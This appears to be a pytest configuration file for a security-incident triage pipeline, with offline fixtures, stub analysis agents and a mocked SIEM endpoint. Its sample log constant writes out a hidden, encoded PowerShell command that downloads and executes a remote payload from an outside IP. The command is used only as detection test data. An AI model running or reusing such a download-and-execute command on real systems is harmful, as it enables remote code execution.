"""
Pytest configuration and shared fixtures.
"""

import asyncio
import os
import random
import sys
from datetime import datetime, timezone
from typing import Any, Callable, Dict, List, Optional

# Add backend directory to path
sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))

import httpx
import pytest
from sqlalchemy import create_engine
from sqlalchemy.orm import sessionmaker
from sqlalchemy.pool import StaticPool

from socflow.database.db import init_db
from socflow.schemas.analysis import Indicator, ThreatIntelReport
from socflow.schemas.incidents import IncidentDraft
from socflow.services.agents.base import AgentContext, AnalysisAgent
from socflow.services.agents.registry import AgentRegistry, build_default_registry
from socflow.services.classification import ClassificationEngine
from socflow.services.orchestrator import AgentOrchestrator
from socflow.services.pipeline import IncidentPipeline
from socflow.services.reputation_sources import OfflineReputationSource
from socflow.services.siem_dispatcher import SiemResponseDispatcher
from socflow.services.synthesis import SynthesisStage
from socflow.services.threat_intel import ThreatIntelCorrelator

MALICIOUS_IP = "185.220.101.45"

POWERSHELL_LOG = (
    "EventID=4104 host=WS-042 user=jdoe powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA "
    f"connecting to {MALICIOUS_IP}:4444; IEX DownloadString"
    f"('http://{MALICIOUS_IP}/payload.ps1')"
)

BENIGN_LOG = "Nightly job finished: backup completed for fileserver FS-01 under scheduled maintenance window"


# =============================================================================
# Helpers
# =============================================================================


async def no_sleep(delay: float) -> None:
    return None


class RecordingSleep:
    """Sleep stand-in that records requested delays without waiting."""

    def __init__(self):
        self.delays: List[float] = []

    async def __call__(self, delay: float) -> None:
        self.delays.append(delay)


class StaticAgent(AnalysisAgent):
    """Agent returning a fixed vote; name and evidence kind set per instance."""

    def __init__(self, name: str, vote: str, confidence: int, evidence_kind: str = "technical",
                 severity_hint: Optional[str] = None):
        super().__init__()
        self.name = name
        self.evidence_kind = evidence_kind
        self.vote = vote
        self.confidence = confidence
        self.severity_hint = severity_hint

    async def evaluate(self, context: AgentContext):
        return self._finding(self.vote, self.confidence, f"{self.name} static vote", severity_hint=self.severity_hint)


class RaisingAgent(AnalysisAgent):
    def __init__(self, name: str, exc: Exception):
        super().__init__()
        self.name = name
        self.exc = exc

    async def evaluate(self, context: AgentContext):
        raise self.exc


class GatedAgent(AnalysisAgent):
    """Blocks until the test releases it."""

    name = "gated"

    def __init__(self):
        super().__init__()
        self.started = asyncio.Event()
        self.release = asyncio.Event()

    async def evaluate(self, context: AgentContext):
        self.started.set()
        await self.release.wait()
        return self._finding("inconclusive", 10, "released")


def make_draft(**overrides: Any) -> IncidentDraft:
    data: Dict[str, Any] = {
        "id": "inc-test",
        "title": "Suspicious PowerShell Execution",
        "log_data": POWERSHELL_LOG,
        "iocs": [Indicator(type="ip", value=MALICIOUS_IP)],
    }
    data.update(overrides)
    return IncidentDraft(**data)


def make_context(draft: Optional[IncidentDraft] = None, report: Optional[ThreatIntelReport] = None) -> AgentContext:
    return AgentContext(draft or make_draft(), report or ThreatIntelReport())


def powershell_submission(**overrides: Any) -> Dict[str, Any]:
    payload: Dict[str, Any] = {
        "title": "Suspicious PowerShell Execution",
        "systemContext": "Finance workstation WS-042, Windows 11",
        "logData": POWERSHELL_LOG,
        "iocs": [MALICIOUS_IP],
        "source": "manual",
    }
    payload.update(overrides)
    return payload


# =============================================================================
# Fixtures
# =============================================================================


@pytest.fixture(autouse=True)
def setup_test_environment():
    """Set up test environment variables."""
    os.environ["AGENT_LLM_ASSIST"] = "false"
    os.environ["SYNTHESIS_LLM_ASSIST"] = "false"
    yield


@pytest.fixture
def db_engine():
    engine = create_engine(
        "sqlite://",
        connect_args={"check_same_thread": False},
        poolclass=StaticPool,
    )
    init_db(bind=engine)
    yield engine
    engine.dispose()


@pytest.fixture
def session_factory(db_engine) -> Callable:
    return sessionmaker(autocommit=False, autoflush=False, bind=db_engine)


@pytest.fixture
def reputation_source() -> OfflineReputationSource:
    return OfflineReputationSource(blocklist={"ips": [MALICIOUS_IP]}, allowlist={})


@pytest.fixture
def siem_requests() -> List[httpx.Request]:
    return []


@pytest.fixture
def siem_transport(siem_requests) -> httpx.MockTransport:
    def handler(request: httpx.Request) -> httpx.Response:
        siem_requests.append(request)
        return httpx.Response(200, json={"received": True})

    return httpx.MockTransport(handler)


@pytest.fixture
def make_pipeline(session_factory, reputation_source, siem_transport):
    """Factory building a fully offline pipeline; keyword overrides replace components."""

    def _make(
        registry: Optional[AgentRegistry] = None,
        transport: Optional[httpx.MockTransport] = None,
        **overrides: Any,
    ) -> IncidentPipeline:
        components: Dict[str, Any] = {
            "session_factory": session_factory,
            "correlator": ThreatIntelCorrelator(source=reputation_source, timeout=1.0),
            "orchestrator": AgentOrchestrator(
                registry=registry if registry is not None else build_default_registry(enabled=[], llm_assist=False),
                agent_timeout=2.0,
                overall_timeout=5.0,
            ),
            "synthesis": SynthesisStage(sleep=no_sleep, threshold=70),
            "engine": ClassificationEngine(threshold=70),
            "dispatcher": SiemResponseDispatcher(
                session_factory,
                transport=transport or siem_transport,
                sleep=no_sleep,
                rng=random.Random(7),
            ),
            "conflict_policy": "reject",
            "timeout": 10.0,
        }
        components.update(overrides)
        return IncidentPipeline(**components)

    return _make


@pytest.fixture
def fixed_now() -> datetime:
    return datetime(2026, 3, 14, 15, 30, tzinfo=timezone.utc)
